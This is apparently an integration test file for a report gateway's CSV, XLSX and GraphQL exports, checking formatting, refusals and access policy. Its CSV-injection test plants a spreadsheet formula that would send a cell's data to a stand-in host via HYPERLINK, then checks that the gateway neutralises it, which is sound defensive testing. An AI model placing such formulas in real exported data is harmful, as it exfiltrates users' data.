// Reports against the reference upstreams: every report's CSV through the gateway (GET /reports/<n>.csv, the
// session cookie) compared with rows read here from the product API directly and formatted here (';', BRL pt-BR,
// decimal comma, DD/MM/YYYY); reports 17 and 7 recomputed from the orders and products lists; the refusals (4xx
// with the spec's messages, page and branch policy); the same rows as data through GraphQL; and the XLSX beside the
// CSV, read back with exceljs (typed cells, the same policy).
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Client } from './stack';
import { startWorkflowStack, type Loose, type WorkflowStack } from './workflow-stack';
import { setEnv } from './env';

let stack: WorkflowStack;
const clients: Record<string, Client> = {};
const START = '2025-01-01';
const END = '2026-12-31';

const MONEY = new Intl.NumberFormat('pt-BR', { style: 'currency', currency: 'BRL' });
const brl = (v: unknown) => MONEY.format(Number(v));
const br = (v: unknown) => (v == null ? '' : String(v).replace(/^(\d{4})-(\d{2})-(\d{2})$/, '$3/$2/$1'));
const text = (v: unknown) => (v == null ? '' : String(v));
const dec = (v: unknown) => (v == null ? '' : String(Number(v)).replace('.', ','));
const MONEY_COLUMNS = /^(Valor|Valor Total|Ticket Médio|Valor Última Compra|Preço de Venda)$/;
const DATE_COLUMNS = /^(Data|Data do Pedido|Data do Cancelamento|Data Última Compra)$/;
const DECIMAL_COLUMNS = /^(Estoque|Estoque Mínimo|Quantidade Vendida)$/;

/** The CSV a row of the product API should become, formatted here without the gateway's code. */
function expectedLine(row: Record<string, unknown>): string[] {
  return Object.entries(row).map(([key, value]) =>
    MONEY_COLUMNS.test(key) ? brl(value) : DATE_COLUMNS.test(key) ? br(value) : DECIMAL_COLUMNS.test(key) ? dec(value) : text(value),
  );
}

interface Csv {
  status: number;
  disposition: string | null;
  type: string | null;
  body: string;
}

async function csv(who: string, path: string, headers: Record<string, string> = {}): Promise<Csv> {
  const res = await fetch(`${stack.gateway.url}${path}`, { headers: clients[who]?.cookie ? { cookie: clients[who].cookie!, ...headers } : headers });
  return {
    status: res.status,
    disposition: res.headers.get('content-disposition'),
    type: res.headers.get('content-type'),
    body: new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer()),
  };
}

const rowsOf = (body: string): string[][] => parse(body.replace(/^\ufeff/, ''), { delimiter: ';', relax_column_count: false });

const PARAMS: Record<number, string> = {
  0: `filial=Todas&datainicial=${START}&datafinal=${END}`,
  2: '',
  4: 'filial=Todas',
  5: `filial=Todas&datainicial=${START}&datafinal=${END}&valorminimo=100,00`,
  7: 'filial=17',
};
const paramsOf = (index: number) => PARAMS[index] ?? `filial=Todas&datainicial=${START}&datafinal=${END}`;
const upstreamQuery = (index: number) =>
  paramsOf(index)
    .replace(/datainicial=([\d-]+)/, "datainicial='$1'")
    .replace(/datafinal=([\d-]+)/, "datafinal='$1'")
    .replace('100,00', '100.00');

// Keys for internal tools act upstream as this service account (put back after the file, env.ts).
let restoreEnv: () => void;
beforeAll(async () => {
  restoreEnv = setEnv({ INTEGRATION_ACCOUNT_MATRICULA: '1001', INTEGRATION_ACCOUNT_PASSWORD: 'senha1234' });
  stack = await startWorkflowStack();
  for (const matricula of ['1001', '1002', '1003', '1004']) {
    clients[matricula] = stack.client();
    expect((await clients[matricula].login(matricula)).login.errors).toEqual([]);
  }
}, 120_000);
afterAll(async () => {
  await stack?.close();
  restoreEnv();
});

/** A key for internal tools holding `pages`, bound to `branch` when given, as its Authorization header. */
let keysMade = 0;
const keyFor = async (pages: string[], branch: number | null = null) => {
  const answer = await clients['1001'].query(
    'mutation($input: IntegrationKeyInput!) { createIntegrationKey(input: $input) { secret errors { code message } } }',
    {
      input: {
        name: `relatórios ${pages.join(',')} ${branch ?? 'todas'} #${++keysMade}`,
        pages,
        branch,
        expiresAt: new Date(stack.clock.now + 30 * 86_400_000).toISOString(),
      },
    },
  );
  expect(answer.body.data?.createIntegrationKey.errors, JSON.stringify(answer.body)).toEqual([]);
  return { authorization: `Bearer ${answer.body.data!.createIntegrationKey.secret}` };
};

describe('report CSVs', () => {
  it("streams each report's CSV with the catalogue's file name, equal to the product API's rows formatted pt-BR", async () => {
    const catalogue = await clients['1001'].query('{ reports { index fileName columns { key kind } csvPath } }');
    const reports: Loose[] = catalogue.body.data!.reports;
    expect(reports.map((r) => r.index)).toEqual([0, 2, 4, 5, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18]);
    let nonEmpty = 0;
    for (const report of reports) {
      const got = await csv('1001', `${report.csvPath}?${paramsOf(report.index)}`);
      expect([report.index, got.status, got.type]).toEqual([report.index, 200, 'text/csv; charset=utf-8']);
      expect(got.disposition).toBe(`attachment; filename="${report.fileName}"`);
      expect(got.body.startsWith('\ufeff')).toBe(true);
      const upstream: Loose[] = (await stack.api.get(`relatorio${report.index}/?${upstreamQuery(report.index)}`)).results;
      const [header, ...lines] = rowsOf(got.body);
      expect(header).toEqual(report.columns.map((c: Loose) => c.key));
      expect([report.index, lines]).toEqual([report.index, upstream.map(expectedLine)]);
      if (lines.length) nonEmpty++;
    }
    expect(nonEmpty).toBeGreaterThanOrEqual(12);
  });

  it('report 17: every day of the period with the sales counted here from the orders list', async () => {
    const got = await csv('1001', `/reports/17.csv?filial=17&datainicial=2026-01-01&datafinal=2026-03-31`);
    const [, ...lines] = rowsOf(got.body);
    expect(lines).toHaveLength(90);
    const orders: Loose[] = (await stack.api.get('pedidos/?page_size=10000')).results;
    const day = new Intl.DateTimeFormat('en-CA', { timeZone: 'America/Sao_Paulo' });
    const cents = (v: unknown) => Math.round(Number(v) * 100);
    const extra = new Map<number, number>();
    for (const o of orders) if (o.pedidoadicional && o.status !== 'X') extra.set(o.pedidoprincipal, (extra.get(o.pedidoprincipal) ?? 0) + cents(o.vltotal));
    const perDay = new Map<string, { n: number; c: number }>();
    for (const o of orders) {
      const branch = typeof o.codfilial === 'object' && o.codfilial ? o.codfilial.codFilial : o.codfilial;
      if (o.pedidoadicional || o.status === 'X' || Number(branch) !== 17) continue;
      const key = day.format(new Date(o.datapedido));
      const entry = perDay.get(key) ?? { n: 0, c: 0 };
      entry.n++;
      entry.c += cents(o.vltotal) + (extra.get(o.id) ?? 0);
      perDay.set(key, entry);
    }
    let withSales = 0;
    for (const [date, count, total] of lines) {
      const key = date.split('/').reverse().join('-');
      const expected = perDay.get(key) ?? { n: 0, c: 0 };
      if (expected.n) withSales++;
      expect([date, count, total]).toEqual([date, String(expected.n), brl(expected.c / 100)]);
    }
    expect(withSales).toBeGreaterThan(0);
  });

  it("report 7: branch 17's products with 'Visível' from the products list's foralinha", async () => {
    const got = await csv('1001', '/reports/7.csv?filial=17');
    const [, ...lines] = rowsOf(got.body);
    const products: Loose[] = (await stack.api.get('produtos/?page_size=10000')).results.filter((p: Loose) => Number(p.codfilial) === 17);
    expect(lines).toHaveLength(products.length);
    const visible = new Map(products.map((p) => [`${p.codprod}`, p.foralinha === 'S' ? 'Não' : 'Sim']));
    for (const line of lines) expect([line[1], line[6]]).toEqual([line[1], visible.get(line[1])]);
    expect(lines.every((line) => line[0] === '17')).toBe(true);
  });
});

describe('report refusals and policy', () => {
  it("answers missing parameters 400 with the spec's messages, before asking the product API", async () => {
    const before = stack.proxies.productApi.calls.length;
    const cases: [string, string][] = [
      [`/reports/5.csv?filial=Todas&datainicial=${START}&datafinal=${END}`, 'É necessário definir o valor mínimo para geração do relatório'],
      ['/reports/0.csv?filial=Todas', 'É necessário definir a filial e/ou o período de informações para geração do relatório'],
      [`/reports/17.csv?datainicial=${START}&datafinal=${END}`, 'É necessário definir a filial e/ou o período de informações para geração do relatório'],
      ['/reports/4.csv', 'É necessário definir a filial e/ou o período de informações para geração do relatório'],
      ['/reports/17.csv?filial=17&datainicial=2026-03-05&datafinal=2026-03-01', 'A data inicial deve ser anterior ou igual à data final.'],
    ];
    for (const [path, message] of cases) {
      const got = await csv('1001', path);
      expect([path, got.status, JSON.parse(got.body).error]).toEqual([path, 400, { code: 'BAD_USER_INPUT', message }]);
    }
    expect((await csv('1001', '/reports/3.csv')).status).toBe(404);
    expect(stack.proxies.productApi.calls.length).toBe(before);
  });

  it("answers 502 with the page's text when the product API fails, before the CSV or part-way through its answer", async () => {
    const wholeRows = (await stack.api.get('relatorio2/')).results.length;
    stack.proxies.productApi.add({ method: 'GET', path: '/relatorio2/', action: 'status', status: 503 });
    const refused = await csv('1001', '/reports/2.csv');
    expect([refused.status, JSON.parse(refused.body).error]).toEqual([502, { code: 'UPSTREAM_ERROR', message: 'Erro ao gerar o relatório. Tente novamente.' }]);
    // The answer dies after 2 000 bytes, before the gateway has sent any CSV: still a clean 502, no cut download
    // and no short CSV that looks whole.
    stack.proxies.productApi.add({ method: 'GET', path: '/relatorio2/', action: 'cut', bytes: 2_000 });
    const cut = await csv('1001', '/reports/2.csv');
    expect([cut.status, cut.type]).toEqual([502, 'application/json; charset=utf-8']);
    expect(cut.disposition).toBeNull();
    // The gateway goes on serving the next download whole.
    const whole = await csv('1001', '/reports/2.csv');
    expect(rowsOf(whole.body).length - 1).toBe(wholeRows);
  });

  it('refuses no session (401) and type 4 (403); binds type 3 to its own branch', async () => {
    expect((await csv('nobody', '/reports/2.csv')).status).toBe(401);
    expect((await csv('1004', '/reports/2.csv')).status).toBe(403);
    expect((await csv('1003', '/reports/4.csv?filial=18')).status).toBe(403);
    const own = rowsOf((await csv('1003', '/reports/4.csv?filial=Todas')).body).slice(1);
    const all = rowsOf((await csv('1002', '/reports/4.csv?filial=Todas')).body).slice(1);
    expect(own.length).toBeGreaterThan(0);
    expect(own.every((line) => line[0] === '17')).toBe(true);
    expect(all.some((line) => line[0] !== '17')).toBe(true);
  });
});

describe('report CSVs for internal tools (integration keys)', () => {
  it("a key holding 'relatorio' downloads the same CSV as a person; without the page 403; bound to a branch like a submanager", async () => {
    const key = await keyFor(['relatorio']);
    const byKey = await csv('nobody', '/reports/2.csv', key);
    expect([byKey.status, byKey.type]).toEqual([200, 'text/csv; charset=utf-8']);
    expect(byKey.body).toBe((await csv('1001', '/reports/2.csv')).body);
    // The same key reads the rows through GraphQL too.
    const rows = await fetch(`${stack.gateway.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...key },
      body: JSON.stringify({ query: '{ reportRows(index: 2, parameters: {}, pageSize: 5) { total } }' }),
    });
    expect(((await rows.json()) as Loose).data.reportRows.total).toBe(rowsOf(byKey.body).length - 1);

    expect((await csv('nobody', '/reports/2.csv', await keyFor(['pedido']))).status).toBe(403);
    const bound = await keyFor(['relatorio'], 17);
    expect((await csv('nobody', '/reports/4.csv?filial=18', bound)).status).toBe(403);
    const own = rowsOf((await csv('nobody', '/reports/4.csv?filial=Todas', bound)).body).slice(1);
    expect(own.length).toBeGreaterThan(0);
    expect(own.every((line) => line[0] === '17')).toBe(true);
    expect((await csv('nobody', '/reports/2.csv', { authorization: 'Bearer pk_00000000000000000000000000000000_x' })).status).toBe(401);
  });
});

describe('reports as data (GraphQL)', () => {
  const ROWS = `query($index: Int!, $p: ReportParametersInput!, $page: Int, $size: Int) {
    reportRows(index: $index, parameters: $p, page: $page, pageSize: $size) { branch total items { values } report { columns { key } } }
  }`;

  it("pages a report's rows typed as the product API keeps them, with the CSV's refusals", async () => {
    const upstream: Loose[] = (await stack.api.get(`relatorio17/?filial=Todas&datainicial='2026-01-01'&datafinal='2026-01-31'`)).results;
    const page = await clients['1002'].query(ROWS, { index: 17, p: { allBranches: true, startDate: '2026-01-01', endDate: '2026-01-31' }, page: 2, size: 10 });
    expect(page.body.errors).toBeUndefined();
    const data = page.body.data!.reportRows;
    expect(data.total).toBe(31);
    expect(data.items.map((i: Loose) => i.values)).toEqual(upstream.slice(10, 20).map((r) => Object.values(r).map((v) => (v == null ? null : String(v)))));
    const refused = await clients['1002'].query(ROWS, { index: 5, p: { allBranches: true, startDate: '2026-01-01', endDate: '2026-01-31' } });
    expect(refused.body.errors?.[0]).toMatchObject({
      message: 'É necessário definir o valor mínimo para geração do relatório',
      extensions: { code: 'BAD_USER_INPUT' },
    });
    const options = await clients['1003'].query('{ reportBranchOptions { allBranches branches { code } } }');
    expect(options.body.data!.reportBranchOptions).toEqual({ allBranches: false, branches: [{ code: 17 }] });
    const all = await clients['1001'].query('{ reportBranchOptions { allBranches branches { code } } }');
    expect(all.body.data!.reportBranchOptions.allBranches).toBe(true);
    expect(all.body.data!.reportBranchOptions.branches.map((b: Loose) => b.code)).toEqual(expect.arrayContaining([17, 18]));
  });
});

describe('CSV injection (OWASP): text that a spreadsheet would run comes out inert', () => {
  const FORMULA = '=HYPERLINK("http://x/?"&A1,"c")';

  it('in /reports/2.csv, /reports/7.csv and reportRows, while numbers stay numbers', async () => {
    const customer = (await stack.api.get('clientes/?page_size=1')).results[0];
    await stack.api.put(`clientes/${customer.id}/`, { ...customer, cliente: FORMULA });
    const product = (await stack.api.get('produtos/?codfilial=17&page_size=1')).results[0];
    await stack.api.put(`produtos/${product.id}/`, { ...product, descricao: '@SUM(1+1)' });

    const customers = rowsOf((await csv('1001', '/reports/2.csv')).body);
    const named = customers.find((cells) => cells[0] === String(customer.id))!;
    expect(named[2]).toBe(`'${FORMULA}`);
    // Money the gateway formats itself is still money.
    expect(named[10]).toMatch(/^(R\$\u00a0[\d.]+,\d{2})?$/);
    const products = rowsOf((await csv('1001', '/reports/7.csv?filial=17')).body);
    expect(products.find((cells) => cells[1] === String(product.codprod))![3]).toBe("'@SUM(1+1)");
    for (const cells of [...customers.slice(1), ...products.slice(1)]) {
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }

    const rows = await clients['1001'].query('query { reportRows(index: 2, parameters: {}, pageSize: -1) { items { values } } }');
    expect(rows.body.errors).toBeUndefined();
    const values: (string | null)[] = rows.body.data!.reportRows.items.find((i: Loose) => i.values[0] === String(customer.id)).values;
    expect(values[2]).toBe(`'${FORMULA}`);
  });
});

describe("report XLSX (docs/decisions/0050-report-xlsx.md): the CSV's rows in typed cells for Excel", () => {
  const PATH5 = `/reports/5.xlsx?${paramsOf(5)}`;
  /** A valid CPF that starts with 0 (check digits 9 and 0), the kind Excel turned into 1234567890. */
  const ZERO_CPF = '01234567890';

  async function xlsx(who: string, path: string, headers: Record<string, string> = {}) {
    const res = await fetch(`${stack.gateway.url}${path}`, { headers: clients[who]?.cookie ? { cookie: clients[who].cookie!, ...headers } : headers });
    const body = await res.arrayBuffer();
    return {
      status: res.status,
      type: res.headers.get('content-type'),
      disposition: res.headers.get('content-disposition'),
      encoding: res.headers.get('content-encoding'),
      body,
    };
  }
  async function sheetOf(body: ArrayBuffer): Promise<ExcelJS.Worksheet> {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(body);
    return book.worksheets[0];
  }
  const columnOf = (sheet: ExcelJS.Worksheet, key: string) => (sheet.getRow(1).values as unknown[]).indexOf(key);
  const dataRows = (sheet: ExcelJS.Worksheet) => Array.from({ length: sheet.rowCount - 1 }, (_, i) => sheet.getRow(i + 2));
  /** 'R$ 2.623,28' (the CSV's money) as cents. */
  const csvCents = (text: string) =>
    Math.round(
      Number(
        text
          .replace(/^R\$\u00a0/, '')
          .replace(/\./g, '')
          .replace(',', '.'),
      ) * 100,
    );

  it('report 5: a CPF starting with 0 keeps it, money cells are numbers summing to the CSV total, the header is frozen', async () => {
    // The seed's CPFs are random: the customer of report 5's first row is given one starting with 0.
    const upstream: Loose[] = (await stack.api.get(`relatorio5/?${upstreamQuery(5)}`)).results;
    expect(upstream.length).toBeGreaterThan(1);
    const customerId = upstream[0]['Código Cliente'];
    const customer = await stack.api.get(`clientes/${customerId}/`);
    await stack.api.put(`clientes/${customerId}/`, { ...customer, cpf: ZERO_CPF });

    const got = await xlsx('1001', PATH5, { 'accept-encoding': 'br, gzip' });
    expect([got.status, got.type, got.disposition, got.encoding]).toEqual([
      200,
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      'attachment; filename="relatorio_pedidosvalorminimo.xlsx"',
      null,
    ]);
    const sheet = await sheetOf(got.body);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const [csvHeader, ...csvLines] = rowsOf((await csv('1001', `/reports/5.csv?${paramsOf(5)}`)).body);
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(csvHeader);
    const rows = dataRows(sheet);
    expect(rows).toHaveLength(csvLines.length);
    expect(rows).toHaveLength(upstream.length);

    const cpfAt = columnOf(sheet, 'CPF');
    const ofCustomer = rows.filter((row) => row.getCell(columnOf(sheet, 'Código Cliente')).value === customerId);
    expect(ofCustomer.length).toBeGreaterThan(0);
    for (const row of ofCustomer) expect([row.getCell(cpfAt).type, row.getCell(cpfAt).value]).toEqual([ExcelJS.ValueType.String, ZERO_CPF]);
    // The CSV keeps the spec's format: the bare digits, the 0 included.
    expect(csvLines.filter((line) => line[3] === String(customerId)).map((line) => line[5])).toEqual(ofCustomer.map(() => ZERO_CPF));

    const valueAt = columnOf(sheet, 'Valor');
    for (const row of rows) expect(row.getCell(valueAt).type).toBe(ExcelJS.ValueType.Number);
    const sheetCents = Math.round(rows.reduce((sum, row) => sum + (row.getCell(valueAt).value as number), 0) * 100);
    const csvTotal = csvLines.reduce((sum, line) => sum + csvCents(line[csvHeader.indexOf('Valor')]), 0);
    expect(sheetCents).toBe(csvTotal);
    expect(sheetCents).toBe(upstream.reduce((sum, row) => sum + Math.round(Number(row.Valor) * 100), 0));
    // Days are dates, the CSV's DD/MM/YYYY.
    const day = rows[0].getCell(columnOf(sheet, 'Data'));
    expect(day.type).toBe(ExcelJS.ValueType.Date);
    expect((day.value as Date).toISOString().slice(0, 10)).toBe(upstream[0].Data);
  });

  it("report 7: the EAN ('Código Auxiliar') is the 13-digit text, the product code a number", async () => {
    const sheet = await sheetOf((await xlsx('1001', '/reports/7.xlsx?filial=17')).body);
    const upstream: Loose[] = (await stack.api.get('relatorio7/?filial=17')).results;
    const rows = dataRows(sheet);
    expect(rows).toHaveLength(upstream.length);
    const eanAt = columnOf(sheet, 'Código Auxiliar');
    const withEan = rows.filter((row) => /^\d{13}$/.test(String(row.getCell(eanAt).value ?? '')));
    expect(withEan.length).toBeGreaterThan(0);
    const byCode = new Map(upstream.map((row) => [Number(row['Código']), row['Código Auxiliar']]));
    for (const row of withEan) {
      const code = row.getCell(columnOf(sheet, 'Código'));
      expect(code.type).toBe(ExcelJS.ValueType.Number);
      expect([row.getCell(eanAt).type, row.getCell(eanAt).value]).toEqual([ExcelJS.ValueType.String, byCode.get(code.value as number)]);
    }
  });

  it("answers 502 with the page's text when the product API fails before the file's first bytes, as the CSV does", async () => {
    stack.proxies.productApi.add({ method: 'GET', path: '/relatorio2/', action: 'status', status: 503 });
    const refused = await xlsx('1001', '/reports/2.xlsx');
    expect([refused.status, JSON.parse(Buffer.from(refused.body).toString()).error]).toEqual([
      502,
      { code: 'UPSTREAM_ERROR', message: 'Erro ao gerar o relatório. Tente novamente.' },
    ]);
    stack.proxies.productApi.add({ method: 'GET', path: '/relatorio2/', action: 'cut', bytes: 2_000 });
    const cut = await xlsx('1001', '/reports/2.xlsx');
    expect([cut.status, cut.type, cut.disposition]).toEqual([502, 'application/json; charset=utf-8', null]);
    const whole = await sheetOf((await xlsx('1001', '/reports/2.xlsx')).body);
    expect(whole.rowCount - 1).toBe((await stack.api.get('relatorio2/')).results.length);
  });

  it("the CSV's policy: no session 401, type 4 and a key without the page 403, a submanager or a bound key to its own branch", async () => {
    expect((await xlsx('nobody', '/reports/2.xlsx')).status).toBe(401);
    expect((await xlsx('1004', '/reports/2.xlsx')).status).toBe(403);
    expect((await xlsx('1003', '/reports/4.xlsx?filial=18')).status).toBe(403);
    expect((await xlsx('nobody', '/reports/2.xlsx', await keyFor(['pedido']))).status).toBe(403);
    const bound = await keyFor(['relatorio'], 17);
    expect((await xlsx('nobody', '/reports/4.xlsx?filial=18', bound)).status).toBe(403);
    const own = await xlsx('nobody', '/reports/4.xlsx?filial=Todas', bound);
    expect(own.status).toBe(200);
    const branches = dataRows(await sheetOf(own.body)).map((row) => row.getCell(1).value);
    expect(branches.length).toBeGreaterThan(0);
    expect(new Set(branches)).toEqual(new Set([17]));
    const refused = await xlsx('1001', `/reports/5.xlsx?filial=Todas&datainicial=${START}&datafinal=${END}&valorminimo=abc`);
    expect([refused.status, JSON.parse(Buffer.from(refused.body).toString()).error]).toEqual([
      400,
      { code: 'BAD_USER_INPUT', message: 'Valor mínimo inválido: abc.' },
    ]);
  });
});
